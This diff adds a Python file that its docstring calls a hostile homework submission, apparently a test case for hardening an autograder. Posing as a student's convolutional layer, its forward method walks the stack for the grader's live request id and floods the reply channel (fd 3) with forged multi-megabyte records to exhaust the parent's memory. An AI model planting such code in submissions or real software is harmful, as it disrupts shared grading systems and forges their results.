@@ -1,0 +1,65 @@
+"""Hostile hw4 submission `reply_channel_flood`.
+
+THREAT: forged step records with the live request id (found by walking the stack) written to the reply channel (fd 3) for every remaining step of the largest request (conv directional, 25 steps): each ~4 MB line is a JSON list of 1.4 million empty objects, ~100 MB once parsed, and the parent keeps the records of a request until it ends
+"""
+import os
+import sys
+
+import numpy as np
+
+
+def _child_request():
+    # The grader's child runs student code in its own interpreter: walk up to its request.
+    frame = sys._getframe()
+    while frame is not None:
+        request = frame.f_locals.get("request")
+        if isinstance(request, dict) and "id" in request:
+            return request, frame.f_locals.get("index", 0)
+        frame = frame.f_back
+    return {}, 0
+
+
+_FLOODED = []
+
+
+class nn_convolutional_layer:
+    def __init__(self, filter_width, filter_height, input_size, in_ch_size, num_filters, std=1e0):
+        self.W = np.random.normal(0, std, (num_filters, in_ch_size, filter_width, filter_height))
+        self.b = 0.01 + np.zeros((1, num_filters, 1, 1))
+
+    def update_weights(self, dW, db):
+        self.W += dW
+        self.b += db
+
+    def get_weights(self):
+        return self.W, self.b
+
+    def set_weights(self, W, b):
+        self.W, self.b = W, b
+
+    def forward(self, x):
+        request, index = _child_request()
+        steps = len(request.get("steps", []))
+        if steps > 10 and not _FLOODED:  # the first large request of this interpreter
+            _FLOODED.append(1)
+            pad = "[" + "{}," * 1398100 + "{}]"
+            for k in range(index, steps):
+                line = '{"id": %d, "step": %d, "record": {"outputs": {}, "pad": %s}}\n' % (request["id"], k, pad)
+                data = memoryview(line.encode())
+                while data:
+                    data = data[os.write(3, data):]
+        raise RuntimeError("flooded the reply channel")
+
+    def backprop(self, x, dLdy):
+        raise NotImplementedError("inert part of a hostile test case")
+
+
+class nn_max_pooling_layer:
+    def __init__(self, stride, pool_size):
+        self.stride, self.pool_size = stride, pool_size
+
+    def forward(self, x):
+        raise NotImplementedError("inert part of a hostile test case")
+
+    def backprop(self, x, dLdy):
+        raise NotImplementedError("inert part of a hostile test case")
